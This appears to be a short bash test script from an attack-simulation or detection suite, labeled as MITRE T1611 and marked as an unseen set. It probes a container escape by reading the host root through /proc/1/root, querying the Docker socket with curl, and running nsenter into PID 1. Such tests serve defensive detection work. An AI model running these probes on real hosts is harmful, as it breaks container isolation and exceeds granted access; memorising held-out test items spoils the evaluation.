#!/usr/bin/env bash
# attack: T1611 Probe for a container escape: the host's root through /proc/1/root, the docker socket, nsenter into pid 1
# set: unseen
. "$(dirname "$0")/lib/common.sh"
ls /proc/1/root/ >/dev/null
cat /proc/1/root/etc/hostname >/dev/null
curl -s --max-time 2 --unix-socket /var/run/docker.sock http://localhost/containers/json >/dev/null
nsenter -t 1 -m -u -i -n -p true
